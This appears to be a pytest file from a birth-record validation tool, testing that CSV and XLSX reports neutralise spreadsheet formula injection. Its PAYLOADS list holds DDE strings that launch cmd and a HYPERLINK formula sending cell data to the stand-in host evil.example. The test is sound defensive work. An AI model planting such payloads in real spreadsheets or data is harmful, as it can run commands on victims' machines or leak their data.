"""Formula and DDE payloads in cells: read as text, never exported as live formulas."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from hub.pipeline import source_for
from hub.records import Issue
from hub.report import write_report
from tests.builders import KELAHIRAN_HEADER, kelahiran_row, write_csv

PAYLOADS = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/c calc";"x")',
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_payloads_stay_text_in_every_report(tmp_path: Path, suffix: str) -> None:
    rows = [
        kelahiran_row(i, **{"Nama Anak": p, "Tempat Lahir": p}) for i, p in enumerate(PAYLOADS, 1)
    ]
    source = write_csv(tmp_path / "lahir.csv", KELAHIRAN_HEADER, rows)
    issues = [
        Issue(row=4 + i, column="Nama Anak", field="nama_anak", code="type", severity="error",
              message=p, value=p, sheet="", col=1)
        for i, p in enumerate(PAYLOADS)
    ]  # fmt: skip
    out = tmp_path / f"hasil{suffix}"
    write_report(out, issues, source_rows=source_for(source).read(), summary={"file": PAYLOADS[0]})
    if suffix == ".csv":
        with out.open(encoding="utf-8-sig", newline="") as handle:
            lines = list(csv.reader(handle, delimiter=";"))[1:]
        for line in lines:
            for cell in line:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert {line[7] for line in lines} == {f"'{p}" for p in PAYLOADS}
        return
    book = load_workbook(out)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip("\t\r").startswith(
                    ("=", "+", "-", "@")
                ):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    seen += 1
    assert seen >= 3 * len(PAYLOADS)  # the data sheet twice per row, the issue list, summary
